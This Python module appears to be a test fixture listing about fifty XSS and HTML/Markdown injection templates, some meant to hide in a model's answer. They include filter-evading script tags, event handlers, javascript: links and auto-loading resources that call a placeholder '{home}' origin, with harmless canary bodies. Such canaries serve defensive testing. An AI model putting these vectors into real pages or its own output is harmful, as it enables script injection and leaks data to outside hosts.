"""What an attacker would put into a name, a document or a model's answer, to run or to call home.

``{n}`` becomes the number of the payload and ``{home}`` the address of the other origin. A script
that runs pushes its number onto ``ran``; everything else shows as a request to ``{home}``.
"""

from __future__ import annotations

RAN = "ran.push({n})"

TEMPLATES = (
    # scripts
    "<script>" + RAN + "</script>",
    "<script src='{home}/{n}.js'></script>",
    "<ScRiPt>" + RAN + "</sCrIpT>",
    "</script><script>" + RAN + "</script>",
    "<script type=module>import '{home}/{n}.js'</script>",
    "<scr<script>ipt>" + RAN + "</script>",
    "\x00<script>" + RAN + "</script>",
    # event handlers
    "<img src=x onerror=" + RAN + ">",
    '"><img src=x onerror=' + RAN + ">",
    "'><img src=x onerror=" + RAN + ">",
    "<body onload=" + RAN + ">",
    "<details open ontoggle=" + RAN + ">",
    "<input autofocus onfocus=" + RAN + ">",
    "<video><source onerror=" + RAN + "></video>",
    "<marquee onstart=" + RAN + ">",
    "<div style='animation:x 1s' onanimationstart=" + RAN + ">x</div>",
    "` onmouseover=" + RAN + " `",
    # foreign content
    "<svg onload=" + RAN + ">",
    "<svg><script>" + RAN + "</script></svg>",
    "<svg><animate onbegin=" + RAN + " attributeName=x dur=1s>",
    "<svg><use href='{home}/{n}.svg#x'></use></svg>",
    "<svg><image href='{home}/{n}.png'></image></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=" + RAN + ">'>",
    "<noscript><p title='</noscript><img src=x onerror=" + RAN + ">'>",
    "<template><img src=x onerror=" + RAN + "></template>",
    # links that run
    "[click](javascript:" + RAN + ")",
    "<a href='javascript:" + RAN + "'>click</a>",
    "[click](JaVaScRiPt:" + RAN + ")",
    "[click](data:text/html,<script>parent." + RAN + "</script>)",
    "<javascript:" + RAN + ">",
    "[1]: javascript:" + RAN + "\n\n[1]",
    # things that load by themselves
    "![x]({home}/{n}.png)",
    "![x][r]\n\n[r]: {home}/{n}.png",
    "[![x]({home}/{n}.png)]({home}/{n})",
    "<img src='{home}/{n}.png'>",
    "<img srcset='{home}/{n}.png 1x'>",
    "<picture><source srcset='{home}/{n}.png'><img></picture>",
    "<iframe src='{home}/{n}'></iframe>",
    "<iframe srcdoc='<script>parent." + RAN + "</script>'></iframe>",
    "<object data='{home}/{n}'></object>",
    "<embed src='{home}/{n}'>",
    "<audio src='{home}/{n}.mp3' autoplay></audio>",
    "<link rel=stylesheet href='{home}/{n}.css'>",
    "<link rel=prefetch href='{home}/{n}'>",
    "<meta http-equiv=refresh content='0;url={home}/{n}'>",
    "<base href='{home}/'>",
    "<style>@import '{home}/{n}.css';</style>",
    "<div style=\"background:url('{home}/{n}.png')\">x</div>",
    "<form action='{home}/{n}'><button autofocus>go</button></form>",
    "$$\\href{{javascript:" + RAN + "}}{{x}} \\includegraphics{{{home}/{n}.png}}$$",
)


def payloads(home: str) -> list[str]:
    """All of them, numbered from 0."""
    return [template.format(n=n, home=home) for n, template in enumerate(TEMPLATES)]
